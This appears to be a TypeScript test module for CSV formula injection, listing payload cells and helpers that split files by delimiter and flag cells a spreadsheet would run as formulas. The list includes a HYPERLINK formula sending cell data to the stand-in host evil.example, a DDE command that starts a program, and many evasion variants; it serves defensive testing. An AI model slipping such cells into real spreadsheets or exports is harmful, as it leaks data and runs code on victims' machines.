import { parse } from 'csv-parse/sync';

/** Cells that make spreadsheets calculate, send requests, or start programs. */
export const formulas = [
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  `=cmd|' /C calc'!A0`,
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'x\n=1+1',
  'x;=1+1;y',
  'x; =1+1;y',
  'x\t=1+1',
  'x,=1+1,y',
  'x",=1+1,"',
  'x,"=1+1,y',
  'x;"=1+1;y',
  'x\t"=1+1',
  '\u202e=1+1',
];

/**
 * Parsed with the delimiter of the file as intended; with others as in other locales, where quotation marks do not help.
 */
export function cellsOf(csv: string, delimiter: string, intended: string): string[] {
  if (delimiter === intended) return (parse(csv, { bom: true, delimiter }) as string[][]).flat();
  return csv.split(/[\r\n]/).flatMap((line) => line.split(delimiter));
}

/** The cells of a file that a spreadsheet would take for formulas. */
export function formulasIn(cells: readonly string[]): string[] {
  return cells.filter((cell) => /^["\s]*[=+\-@＝＋－＠]/u.test(cell));
}
